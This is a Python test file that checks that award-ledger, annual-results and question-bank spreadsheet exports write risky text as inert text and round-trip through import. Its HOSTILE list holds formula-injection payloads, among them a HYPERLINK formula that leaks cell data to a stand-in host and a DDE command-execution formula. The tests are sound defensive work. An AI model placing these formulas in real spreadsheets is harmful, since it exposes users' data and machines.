"""Files we hand out (issue 16, item 11): no text a spreadsheet takes for a formula, in the
award ledger, the annual results and the question export; and the question export still
round-trips through an import."""
import csv
import io

import openpyxl
import pytest

from kernel.sheets import cell_text, read_rows, write_rows
from services.awards.ledger import annual_workbook, workbook
from services.question_bank.questions import EXPORT_HEADERS, SHEET_COLUMNS, parse_row

HOSTILE = ['=HYPERLINK("http://x/?leak="&A1,"点此领奖")', "=cmd|'/c calc'!A1", "+1+2", "-1",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "#N/A", "'=already quoted", "''-1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(data: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(data: bytes, written: list[str]):
    cells = cells_of(data)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # texts, numbers, and times (a number with a time format, read back as one)
    assert all(c.data_type in ("s", "n", "d") for c in cells), [
        (c.coordinate, c.data_type, c.value) for c in cells if c.data_type not in ("s", "n", "d")]
    assert not [t for t in texts if t.startswith(STARTS)]
    for text in written:  # (XML reads a carriage return as a line feed)
        assert cell_text(text).replace("\r", "\n") in texts, text


def test_the_ledger_writes_names_and_departments_as_text():
    awards = [{"rank": i + 1, "kind": "monthly_prize", "name": name, "unit_name": name,
               "member_id": f"m{i}", "phone_masked": "139****0001", "levels": 3,
               "total_ms": 61_000, "amount_cny": 100, "status": "granted", "reason": name}
              for i, name in enumerate(HOSTILE)]
    data = workbook("2018-04", awards, {f"m{i}": name for i, name in enumerate(HOSTILE)})
    assert_inert(data, HOSTILE)
    amounts = [c.value for c in cells_of(data) if c.column_letter == "I" and c.row > 2]
    assert amounts[:len(HOSTILE)] == [100] * len(HOSTILE)  # numbers stay numbers


def test_the_annual_results_write_unit_names_as_text():
    figure = {"value": "0.5"}
    results = {"units": [{"rank": i + 1, "org_unit_id": f"u{i}", "expected": 10,
                          "participants": 5, "participation": figure, "results": figure,
                          "score": figure, "excellent": False} for i in range(len(HOSTILE))]}
    data = annual_workbook(results, {f"u{i}": name for i, name in enumerate(HOSTILE)},
                           HOSTILE[0])
    assert_inert(data, HOSTILE)


QUESTIONS = [{"id": f"q{i}", "level": 1, "type": "single", "stem": stem,
              "options": "-1|0|+1|=2", "answer": "A", "explanation": "@见解析",
              "difficulty": "easy", "topic": "-", "status": "active"}
             for i, stem in enumerate(HOSTILE)]


def test_the_question_export_writes_text_as_text():
    data, _ = write_rows(QUESTIONS, EXPORT_HEADERS, "xlsx")
    assert_inert(data, HOSTILE + ["-1|0|+1|=2", "@见解析"])
    text = write_rows(QUESTIONS, EXPORT_HEADERS, "csv")[0].decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(STARTS)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_an_exported_bank_imports_back_unchanged(fmt):
    data, _ = write_rows(QUESTIONS, EXPORT_HEADERS, fmt)
    rows = read_rows(data, f"questions.{fmt}", SHEET_COLUMNS)
    # the reader strips the spaces around a cell, as it always has
    assert [r["stem"] for r in rows] == [s.strip() for s in HOSTILE]
    parsed = parse_row(rows[0], {1})
    assert parsed["options"] == ["-1", "0", "+1", "=2"]
    assert (parsed["explanation"], parsed["topic"]) == ("@见解析", "-")


def test_a_hand_typed_quote_before_ordinary_text_is_kept():
    data = "stem,level\n'abc,1\n'-1,1\n".encode()
    assert [r["stem"] for r in read_rows(data, "q.csv", SHEET_COLUMNS)] == ["'abc", "-1"]


def test_an_export_of_signed_numbers_only_is_read_with_its_own_quoting():
    # no double quote anywhere: the CSV sniffer must not take our apostrophes for quotes
    rows = [{"id": "q1", "level": 1, "type": "single", "stem": "-1 的相反数", "options": "-1|1",
             "answer": "B", "status": "active"}, {"id": "q2", "level": 1, "type": "single",
             "stem": "+1 与 -1", "options": "-2|+2,0", "answer": "A", "status": "active"}]
    data, _ = write_rows(rows, EXPORT_HEADERS, "csv")
    back = read_rows(data, "q.csv", SHEET_COLUMNS)
    assert [(r["stem"], r["options"]) for r in back] == [("-1 的相反数", "-1|1"),
                                                         ("+1 与 -1", "-2|+2,0")]
